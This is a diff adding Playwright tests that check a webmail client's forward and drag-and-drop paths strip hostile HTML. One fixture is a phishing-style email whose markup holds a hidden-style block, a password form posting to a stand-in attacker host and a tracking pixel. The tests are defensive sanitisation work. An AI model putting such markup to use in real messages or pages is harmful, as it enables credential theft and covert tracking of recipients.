@@ -98,3 +98,73 @@ for (const mode of ["Reply", "Forward"] as const) {
     await expectAppUntouched(page, mode);
   });
 }
+
+// What goes out is what the editor showed: a forward sent without touching its text once
+// carried the original's raw HTML (its <style>, <form> and remote images) under the user's name.
+test("a forward sent untouched carries the quote as the editor showed it, not the original's raw HTML", async ({
+  page,
+  stack,
+}) => {
+  const user = await stack.newUser("fwdraw");
+  await stack.mail.deliver(
+    user.email,
+    buildMessage({
+      from: "attacker@evil.example",
+      to: user.email,
+      subject: "Faktura",
+      html:
+        `<style>.note{display:none}</style>` +
+        `<form action="https://evil.example/login"><input name="password"></form>` +
+        `<img src="https://tracker.example/pixel.gif?id=42">` +
+        `<p>Faktura je u prilogu.</p>`,
+    }),
+  );
+  await signIn(page, user);
+  await row(page, "Faktura").click();
+  await page.getByRole("button", { name: "Forward", exact: true }).click();
+  const forward = page.getByRole("dialog", { name: "Forward" });
+  await forward.getByLabel("To").fill(user.email);
+  await forward.getByRole("button", { name: "Send" }).click();
+  await expect(forward).toHaveCount(0);
+  await expect(row(page, "Fwd: Faktura")).toBeVisible({ timeout: 15_000 });
+
+  const sent = await stack.mail.doveadm(["fetch", "-u", user.email, "text", "mailbox", "Sent"]);
+  const decoded = sent
+    .replace(/=\r?\n/g, "")
+    .replace(/=([0-9A-F]{2})/g, (_, h: string) => String.fromCharCode(parseInt(h, 16)));
+  expect(decoded).toContain("Faktura je u prilogu.");
+  for (const raw of ["<style", "<form", "<input", "evil.example/login", "data-pismo-src"])
+    expect(decoded).not.toContain(raw);
+  // Its image is forwarded as an image, as in the original (the editor only kept it from loading).
+  expect(decoded).toContain('<img src="https://tracker.example/pixel.gif?id=42"');
+});
+
+test("HTML dropped into the editor (a selection dragged out of a message) gets the quote's profile", async ({
+  page,
+  stack,
+}) => {
+  const user = await stack.newUser("dropped");
+  await signIn(page, user);
+  await page.getByRole("button", { name: "Compose" }).first().click();
+  const editor = page
+    .getByRole("dialog", { name: "New message" })
+    .getByRole("textbox", { name: "Message text" });
+  await editor.click();
+  const dataTransfer = await page.evaluateHandle((html) => {
+    const dt = new DataTransfer();
+    dt.setData("text/html", html);
+    dt.setData("text/plain", "Citat iz poruke");
+    return dt;
+  }, HOSTILE_HTML);
+  await editor.dispatchEvent("drop", { dataTransfer });
+  await expect(editor).toContainText("Citat iz poruke: račun je plaćen.");
+  expect(
+    await editor.evaluate((root) => ({
+      style: root.querySelectorAll("style").length,
+      classOrId: root.querySelectorAll("[class], [id]").length,
+      positioned: Array.from(root.querySelectorAll("*")).filter((el) =>
+        ["fixed", "absolute", "sticky"].includes(getComputedStyle(el).position),
+      ).length,
+    })),
+  ).toEqual({ style: 0, classOrId: 0, positioned: 0 });
+});
